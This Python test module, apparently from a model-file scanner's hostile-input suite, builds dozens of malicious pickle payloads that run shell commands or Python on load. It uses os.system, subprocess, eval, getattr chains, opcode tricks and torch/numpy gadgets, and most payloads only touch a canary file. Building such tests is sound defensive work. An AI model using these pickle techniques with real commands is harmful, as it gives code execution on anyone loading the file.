"""Pickles that would run code when loaded: each touches the canary, by every way that is known."""

from __future__ import annotations

import struct

from tests.hostile.entry import CANARY
from tests.hostile.pickles import (
    BEGIN,
    MARK,
    STOP,
    call,
    many,
    mapping,
    named,
    number,
    stack_named,
    state_dict,
    tensor,
    text,
    whole,
)

SHELL = f"touch {CANARY}"
PYTHON = f"open({CANARY!r}, 'w').close()"
_IMPORT = f"__import__('os').system({SHELL!r})"
_SYSTEM = call(named("os", "system"), text(SHELL))
_NESTED = whole(_SYSTEM)


def _bytes(content: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(content)) + content


def _list(*items: bytes) -> bytes:
    return b"]" + MARK + b"".join(items) + b"e"


# function -> its arguments; the value of the key "b" beside an honest tensor
_CALLS: dict[tuple[str, str], tuple[bytes, ...]] = {
    ("os", "system"): (text(SHELL),),
    ("posix", "system"): (text(SHELL),),
    ("nt", "system"): (text(SHELL),),
    ("os", "popen"): (text(SHELL),),
    ("os", "execv"): (text("/bin/sh"), _list(text("sh"), text("-c"), text(SHELL))),
    ("pty", "spawn"): (_list(text("sh"), text("-c"), text(SHELL)),),
    ("subprocess", "Popen"): (_list(text("touch"), text(CANARY)),),
    ("subprocess", "getoutput"): (text(SHELL),),
    ("builtins", "eval"): (text(PYTHON),),
    ("builtins", "exec"): (text(PYTHON),),
    ("builtins", "open"): (text(CANARY), text("w")),
    ("builtins", "__import__"): (text("antigravity"),),
    ("builtins", "compile"): (text(PYTHON), text("x"), text("exec")),
    ("builtins", "map"): (named("os", "system"), _list(text(SHELL))),
    ("__builtin__", "eval"): (text(PYTHON),),
    ("importlib", "import_module"): (text("antigravity"),),
    ("runpy", "_run_code"): (call(named("builtins", "compile"), text(PYTHON), text("x"), text("exec")), b"}"),
    ("timeit", "timeit"): (text("1"), text(PYTHON)),
    ("pip._internal.cli.main", "main"): (_list(text("download"), text("x")),),
    ("numpy.testing._private.utils", "runstring"): (text(PYTHON), b"}"),
    ("numpy.f2py.crackfortran", "myeval"): (text(_IMPORT),),
    ("numpy", "load"): (text(CANARY),),
    ("torch._inductor.codecache", "compile_file"): (text("x.cpp"), text("x.so"), _list(text(SHELL))),
    ("torch.hub", "load"): (text("attacker/repository"), text("model")),
    ("torch", "load"): (text(CANARY),),
    ("torch.utils.collect_env", "run"): (text(SHELL),),
    ("torch.utils._config_module", "ConfigModule.load_config"): (_bytes(_NESTED),),
    ("torch.utils.bottleneck.__main__", "run_cprofile"): (text(PYTHON), b"}"),
    ("torch.fx.experimental.symbolic_shapes", "ShapeEnv.evaluate_guards_expression"): (text(_IMPORT), b")"),
    ("torch.jit.unsupported_tensor_ops", "execWrapper"): (text(PYTHON), b"}", b"}"),
    ("torch.jit._script", "RecursiveScriptModule"): (b")",),
    ("functools", "partial"): (named("os", "system"), text(SHELL)),
    ("functools", "reduce"): (named("builtins", "getattr"), _list(named("os", "system"), text("__call__"))),
    ("operator", "attrgetter"): (text("system"),),
    ("operator", "methodcaller"): (text("system"), text(SHELL)),
    ("pickle", "loads"): (_bytes(_NESTED),),
    ("_pickle", "loads"): (_bytes(_NESTED),),
    ("joblib", "load"): (text(CANARY),),
    ("marshal", "loads"): (_bytes(b"N"),),
    ("types", "FunctionType"): (call(named("builtins", "compile"), text(PYTHON), text("x"), text("exec")), b"}"),
    ("ctypes", "CDLL"): (text("libc.so.6"),),
    ("cProfile", "run"): (text(PYTHON),),
    ("pdb", "run"): (text(PYTHON),),
    ("bdb", "Bdb.run"): (call(named("bdb", "Bdb")), text(PYTHON)),
    ("code", "InteractiveInterpreter.runsource"): (call(named("code", "InteractiveInterpreter")), text(PYTHON)),
    ("doctest", "debug_script"): (text(PYTHON),),
    ("pydoc", "pipepager"): (text("x"), text(SHELL)),
    ("uuid", "_get_command_stdout"): (text("touch"), text(CANARY)),
    ("multiprocessing.util", "spawnv_passfds"): (_bytes(b"/bin/sh"), _list(text("sh")), b")"),
    ("asyncio.unix_events", "_UnixSubprocessTransport._start"): (b"}", text(SHELL)),
    ("logging.config", "listen"): (number(9030),),
    ("socket", "create_connection"): (many(text("127.0.0.1"), number(9)),),
    ("urllib.request", "urlopen"): (text("http://127.0.0.1:9/"),),
    ("webbrowser", "open"): (text("http://127.0.0.1:9/"),),
    ("shutil", "rmtree"): (text(CANARY),),
    ("linecache", "getlines"): (text("/etc/passwd"),),
    ("copyreg", "add_extension"): (text("os"), text("system"), number(1)),
    ("sys", "setrecursionlimit"): (number(10),),
    # names that begin in a module of the list and walk out of it
    ("collections", "_sys.modules"): (),
    ("collections", "OrderedDict.__init__.__globals__"): (),
    ("torch", "serialization.os.system"): (text(SHELL),),
    ("torch._utils", "sys.modules"): (),
    ("numpy._core.multiarray", "os.system"): (text(SHELL),),
}

_GETATTR = call(
    call(named("builtins", "getattr"), call(named("builtins", "__import__"), text("os")), text("system")), text(SHELL)
)
_ORDERED = call(named("collections", "OrderedDict"))
_MAP = named("builtins", "map") + many(named("os", "system"), _list(text(SHELL)))
_FRAMED = call(stack_named("os", "system"), text(SHELL)) + STOP

# whole pickles, for what a table of calls cannot say
_CRAFTED: dict[str, bytes] = {
    "getattr-chain": state_dict(b=_GETATTR),
    "stack-global": state_dict(b=call(stack_named("os", "system"), text(SHELL))),
    "stack-global-from-memo": whole(
        text("system") + b"q\x07" + text("os") + b"q\x08" + b"h\x08h\x07\x93" + many(text(SHELL)) + b"R"
    ),
    "stack-global-of-a-call": state_dict(b=call(named("builtins", "str"), _bytes(b"os")) + text("system") + b"\x93"),
    "inst": whole(MARK + text(SHELL) + b"ios\nsystem\n"),
    "obj": whole(MARK + named("os", "system") + text(SHELL) + b"o"),
    # __new__ of a lazy map, then of a tuple that goes through it
    "newobj": whole(named("builtins", "tuple") + many(_MAP + b"\x81") + b"\x81"),
    "newobj-ex": b"\x80\x04" + named("builtins", "tuple") + many(_MAP + b"}\x92") + b"}\x92.",
    "build-setstate": whole(
        named("collections", "Counter") + b")R" + mapping({"__setstate__": named("os", "system")}) + b"b" + text(SHELL)
        + b"b"
    ),
    "build-dict-pollution": whole(_ORDERED + mapping({"keys": named("os", "system"), "__class__": b"N"}) + b"b"),
    "build-attributes": whole(_ORDERED + mapping({"_metadata": b"}", "items": b"N"}) + b"b"),
    "build-slots": whole(_ORDERED + many(b"N", mapping({"__class__": b"N"})) + b"b"),
    "build-on-a-tensor": whole(mapping({"a": tensor() + mapping({"data": b"N"}) + b"b"})),
    "ext1": state_dict(b=b"\x82\x01"),
    "ext2": state_dict(b=b"\x83\x01\x01"),
    "ext4": state_dict(b=b"\x84\x01\x01\x01\x01"),
    "persid-text": state_dict(b=b"Pos.system\n"),
    "next-buffer": b"\x80\x05\x97.",
    "protocol-3": b"\x80\x03" + _SYSTEM + STOP,
    "protocol-4": b"\x80\x04\x95" + struct.pack("<Q", len(_FRAMED)) + _FRAMED,
    "protocol-5": b"\x80\x05" + call(b"\x8c\x02os\x8c\x06system\x93", text(SHELL)) + STOP,
    "subclassed-ordered-dict": whole(call(named("collections", "UserDict"), mapping({"a": tensor()}))),
    "broken-after-the-payload": BEGIN + _SYSTEM + b"\xff\xff\xff",
    "ends-after-the-payload": BEGIN + _SYSTEM,
    "popped-payload": whole(_SYSTEM + b"0" + mapping({"a": tensor()})),
    "as-a-key": whole(b"}" + _SYSTEM + tensor() + b"s"),
    "as-a-hook": whole(mapping({"a": call(
        named("torch._utils", "_rebuild_tensor_v2"),
        _SYSTEM, number(0), many(number(4)), many(number(1)), b"N", b"N",
    )})),
    "as-a-storage": whole(mapping({"a": many(text("storage"), named("os", "system"), text(SHELL)) + b"Q"})),
}  # fmt: skip


def code_pickles() -> dict[str, bytes]:
    """Pickles by name, each to be refused as not plain."""
    calls = {}
    for (module, name), arguments in _CALLS.items():
        pickle = state_dict(b=call(named(module, name), *arguments))
        if "." in name:
            pickle = pickle.replace(BEGIN, b"\x80\x04", 1)  # in the older protocols a name is one attribute
        calls[f"{module}-{name}".replace("_", "").replace(".", "-").lower()] = pickle
    return {**calls, **_CRAFTED}


# those that a Python without more than its standard library really sings
SINGING = (
    "os-system", "posix-system", "subprocess-popen", "subprocess-getoutput", "builtins-eval", "builtins-exec",
    "builtins-open", "runpy-runcode", "timeit-timeit", "pickle-loads", "cprofile-run", "bdb-bdb-run", "getattr-chain",
    "stack-global", "stack-global-from-memo", "inst", "obj", "newobj", "newobj-ex", "build-setstate", "protocol-3",
    "protocol-4", "protocol-5", "broken-after-the-payload", "ends-after-the-payload", "popped-payload",
    "uuid-getcommandstdout",
)  # fmt: skip
